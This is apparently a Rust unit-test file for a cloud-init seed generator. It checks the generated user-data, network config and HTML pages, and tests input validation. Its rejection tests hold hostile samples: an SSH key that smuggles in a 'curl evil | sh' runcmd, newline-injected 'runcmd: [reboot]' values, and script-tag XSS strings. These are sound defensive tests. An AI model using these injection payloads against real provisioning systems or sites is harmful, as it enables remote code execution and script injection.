//! Unit tests for document building: values land where the templates say, and hostile input
//! either fails cleanly or stays inert data.

use super::*;

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEWSxD5aZB+0gRa89DiDa7zGTceji+OO/BZAEq8HiuLV alice@laptop";

fn input() -> SeedInput {
    SeedInput {
        instance_id: "01JDXAMPLE-1".into(),
        hostname: "alice".into(),
        username: "alice".into(),
        ssh_authorized_keys: vec![KEY.into()],
        ip: Ipv4Addr::new(10, 77, 0, 10),
        prefix_len: 24,
        gateway: Ipv4Addr::new(10, 77, 0, 1),
        dns: vec![Ipv4Addr::new(10, 77, 0, 1), Ipv4Addr::new(9, 9, 9, 9)],
        mac: [0x52, 0x54, 0x00, 0x12, 0x34, 0x56],
        slug: "alice".into(),
        domain: "roost.example".into(),
        ssh_port: 2201,
        install_nginx: false,
        console_password_hash: None,
    }
}

#[test]
fn a_console_password_unlocks_the_owner_for_the_console_only() {
    let mut i = input();
    i.console_password_hash = Some("$6$salt$abc./DEF".into());
    let seed = seed_documents(&templates(), &i).expect("seed");
    let ud: Value = serde_yaml::from_str(&seed.user_data).expect("yaml");
    let u = &ud["users"][0];
    assert_eq!(u["lock_passwd"], Value::Bool(false));
    assert_eq!(u["passwd"], Value::from("$6$salt$abc./DEF"));
    assert_eq!(ud["ssh_pwauth"], Value::Bool(false), "never over SSH");
    for bad in ["plain", "$6$a b", "$6$x\n- evil"] {
        i.console_password_hash = Some(bad.into());
        assert!(seed_documents(&templates(), &i).is_err(), "{bad}");
    }
}

fn templates() -> Templates {
    Templates::embedded().expect("embedded templates are valid")
}

fn parse(doc: &str) -> Value {
    serde_yaml::from_str(doc).expect("document parses")
}

fn keys_of(v: &Value) -> Vec<String> {
    v.as_mapping()
        .expect("mapping")
        .keys()
        .map(|k| k.as_str().expect("string key").to_owned())
        .collect()
}

#[test]
fn embedded_templates_match_the_directory() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("cloud-init");
    assert_eq!(Templates::load(&dir).expect("load"), templates());
}

#[test]
fn user_data_has_the_expected_structure_and_values() {
    let seed = seed_documents(&templates(), &input()).expect("seed");
    assert!(seed.user_data.starts_with("#cloud-config\n"));
    let ud = parse(&seed.user_data);
    assert_eq!(
        keys_of(&ud),
        [
            "hostname",
            "preserve_hostname",
            "manage_etc_hosts",
            "users",
            "bootcmd",
            "ssh_pwauth",
            "disable_root",
            "write_files",
            "runcmd"
        ]
    );
    assert_eq!(ud["hostname"], Value::from("alice"));
    assert_eq!(ud["ssh_pwauth"], Value::Bool(false));
    assert_eq!(ud["disable_root"], Value::Bool(true));
    let users = ud["users"].as_sequence().expect("users list");
    assert_eq!(users.len(), 1);
    let u = &users[0];
    assert_eq!(u["name"], Value::from("alice"));
    assert_eq!(u["lock_passwd"], Value::Bool(true));
    assert_eq!(u["sudo"], Value::from("ALL=(ALL) NOPASSWD:ALL"));
    assert_eq!(u["ssh_authorized_keys"], Value::Sequence(vec![KEY.into()]));
    let wf = &ud["write_files"][0];
    assert_eq!(wf["path"], Value::from("/var/www/html/index.html"));
    // Group-writable for the owner (in www-data) from the first stage on.
    assert_eq!(wf["permissions"], Value::from("0664"));
    assert_eq!(wf["owner"], Value::from("root:www-data"));
    assert_eq!(u["groups"], Value::Sequence(vec!["www-data".into()]));
    let page = wf["content"].as_str().expect("page");
    assert!(page.contains("<h1>alice</h1>"), "{page}");
    assert!(page.contains("ssh -p 2201 alice@roost.example"), "{page}");
    assert!(!page.contains("{{"), "{page}");
    // The resolvers, and nginx trusting X-Real-IP from the gateway alone.
    let file = |i: usize, path: &str| {
        let f = &ud["write_files"][i];
        assert_eq!(f["path"], Value::from(path));
        f["content"].as_str().expect("content").to_owned()
    };
    assert_eq!(
        file(1, "/etc/resolv.conf"),
        "# Written by roost (cloud-init) at the first boot.\nnameserver 10.77.0.1\nnameserver 9.9.9.9\n"
    );
    let realip = file(2, "/etc/nginx/conf.d/roost-realip.conf");
    assert!(
        realip.contains("set_real_ip_from 10.77.0.1;\nreal_ip_header X-Real-IP;\n"),
        "{realip}"
    );
    assert_eq!(realip.matches("set_real_ip_from").count(), 1, "{realip}");
    assert_eq!(
        ud["runcmd"],
        parse(
            "[[chown, -R, alice, /var/www/html], [sh, -c, \"test -e /etc/systemd/system/multi-user.target.wants/nginx.service || systemctl enable nginx.service; systemctl start nginx.service\"]]"
        )
    );
    assert!(ud.get("packages").is_none());
}

#[test]
fn meta_data_and_network_config_values() {
    let seed = seed_documents(&templates(), &input()).expect("seed");
    assert_eq!(
        parse(&seed.meta_data),
        parse("{instance-id: 01JDXAMPLE-1, local-hostname: alice}")
    );
    let expected = parse(
        r#"
version: 2
ethernets:
  eth0:
    match: {macaddress: "52:54:00:12:34:56"}
    set-name: eth0
    dhcp4: false
    addresses: [10.77.0.10/24]
    gateway4: 10.77.0.1
    nameservers: {addresses: [10.77.0.1, 9.9.9.9]}
"#,
    );
    assert_eq!(parse(&seed.network_config), expected);
    // The MAC must be quoted: unquoted, PyYAML (YAML 1.1) reads it as a base-60 integer.
    assert!(
        seed.network_config
            .contains("macaddress: \"52:54:00:12:34:56\""),
        "{}",
        seed.network_config
    );
}

#[test]
fn install_nginx_adds_the_package_once() {
    let mut i = input();
    i.install_nginx = true;
    let ud = parse(&seed_documents(&templates(), &i).expect("seed").user_data);
    assert_eq!(ud["packages"], parse("[nginx]"));

    let t = Templates::from_texts(
        "#cloud-config\npackages: [nginx, git]\n",
        "version: 2\n",
        String::new(),
    )
    .expect("templates");
    let ud = parse(&seed_documents(&t, &i).expect("seed").user_data);
    assert_eq!(ud["packages"], parse("[nginx, git]"));
}

#[test]
fn hostile_key_is_rejected() {
    for bad in [
        format!("{KEY}\nruncmd: [[sh, -c, 'curl evil | sh']]"),
        format!("{KEY}\r\nruncmd: [reboot]"),
        "\"]\nruncmd: [reboot]\n#".to_owned(),
    ] {
        let mut i = input();
        i.ssh_authorized_keys = vec![bad.clone()];
        let e = seed_documents(&templates(), &i).expect_err("hostile key");
        assert!(
            matches!(
                e,
                CloudInitError::KeyNotOneLine | CloudInitError::KeyParse(_)
            ),
            "{bad:?}: {e:?}"
        );
    }
    let mut i = input();
    i.ssh_authorized_keys.clear();
    assert!(matches!(
        seed_documents(&templates(), &i),
        Err(CloudInitError::InvalidInput { .. })
    ));
}

#[test]
fn hostile_key_comment_stays_data() {
    // A valid key whose comment is full of YAML syntax is accepted, and stays one string.
    let comment = "x\" # y: z ' - [runcmd] {a: b} $username";
    let key = format!("{} {comment}", KEY.rsplit_once(' ').expect("comment").0);
    let mut i = input();
    i.ssh_authorized_keys = vec![key.clone()];
    let seed = seed_documents(&templates(), &i).expect("seed");
    let ud = parse(&seed.user_data);
    assert_eq!(
        ud["users"][0]["ssh_authorized_keys"],
        Value::Sequence(vec![key.into()])
    );
    assert_eq!(ud["runcmd"].as_sequence().map(Vec::len), Some(2));
    assert_eq!(keys_of(&ud).len(), 9);
}

/// Sets one field of a [`SeedInput`].
type Setter = fn(&mut SeedInput, &str);

#[test]
fn hostile_names_are_rejected() {
    let cases: Vec<(&str, Setter)> = vec![
        ("username", |i, v| i.username = v.into()),
        ("hostname", |i, v| i.hostname = v.into()),
        ("slug", |i, v| i.slug = v.into()),
        ("instance id", |i, v| i.instance_id = v.into()),
        ("domain", |i, v| i.domain = v.into()),
    ];
    for (field, set) in cases {
        for bad in [
            "al\"ice # x",
            "a\nruncmd: [reboot]",
            "<script>alert(1)</script>",
            "$username",
            "",
        ] {
            let mut i = input();
            set(&mut i, bad);
            match seed_documents(&templates(), &i) {
                Err(CloudInitError::InvalidInput { field: f, .. }) => assert_eq!(f, field),
                other => panic!("{field} = {bad:?}: {other:?}"),
            }
        }
    }
}

#[test]
fn bad_addressing_is_rejected() {
    let cases: Vec<fn(&mut SeedInput)> = vec![
        |i| i.prefix_len = 31,
        |i| i.prefix_len = 0,
        |i| i.ip = Ipv4Addr::new(10, 78, 0, 10),
        |i| i.ip = i.gateway,
        |i| i.ip = Ipv4Addr::new(10, 77, 0, 255),
        |i| i.ip = Ipv4Addr::new(10, 77, 0, 0),
        |i| i.mac = [0x01, 0, 0, 0, 0, 1],
        |i| i.mac = [0; 6],
    ];
    for set in cases {
        let mut i = input();
        set(&mut i);
        assert!(
            matches!(
                seed_documents(&templates(), &i),
                Err(CloudInitError::InvalidInput { .. })
            ),
            "{i:?}"
        );
    }
}

#[test]
fn html_values_are_escaped_once() {
    let vars: BTreeMap<&str, String> = [
        ("slug", "<script>alert('x')</script>&amp;".to_owned()),
        ("domain", "{{slug}}".to_owned()),
        ("ssh_port", "22".to_owned()),
        ("username", "\"><img src=x>".to_owned()),
        ("hostname", "h".to_owned()),
    ]
    .into_iter()
    .collect();
    let page = render_html(
        "<h1>{{slug}}</h1><a title=\"{{ username }}\">{{domain}}</a>",
        &vars,
    )
    .expect("render");
    assert_eq!(
        page,
        "<h1>&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&amp;amp;</h1>\
         <a title=\"&quot;&gt;&lt;img src=x&gt;\">{{slug}}</a>"
    );
}

#[test]
fn bad_templates_are_refused_at_load() {
    let ok_net = "version: 2\n";
    let cases = [
        ("hostname: x\n", ok_net, ""),
        ("#cloud-config\n- a\n", ok_net, ""),
        ("#cloud-config\nx: $nope\n", ok_net, ""),
        ("#cloud-config\nx: !custom y\n", ok_net, ""),
        ("#cloud-config\n$username: x\n", ok_net, ""),
        ("#cloud-config\nx: [\n", ok_net, ""),
        ("#cloud-config\n", "version: 1\n", ""),
        ("#cloud-config\n", "version: 2\nx: $username\n", ""),
        ("#cloud-config\n", ok_net, "{{nope}}"),
        ("#cloud-config\n", ok_net, "{{slug"),
    ];
    for (ud, net, html) in cases {
        assert!(
            Templates::from_texts(ud, net, html.to_owned()).is_err(),
            "{ud:?} {net:?} {html:?}"
        );
    }
    // Strings that merely contain a dollar, or upper-case ones, are literal.
    let t = Templates::from_texts(
        "#cloud-config\na: $HOME\nb: \"cost $5\"\nc: $username\n",
        ok_net,
        String::new(),
    )
    .expect("templates");
    let ud = parse(&seed_documents(&t, &input()).expect("seed").user_data);
    assert_eq!(ud, parse("{a: $HOME, b: cost $5, c: alice}"));
}

#[test]
fn output_is_plain_yaml_11_safe() {
    // Every string that is not a simple word is quoted or a literal block: nothing in the
    // documents can be read differently by PyYAML.
    let seed = seed_documents(&templates(), &input()).expect("seed");
    for doc in [&seed.meta_data, &seed.user_data, &seed.network_config] {
        for line in doc.lines() {
            assert!(!line.contains('\t') || line.starts_with("    "), "{line}");
        }
    }
    assert!(seed.user_data.contains("permissions: \"0644\""));
}
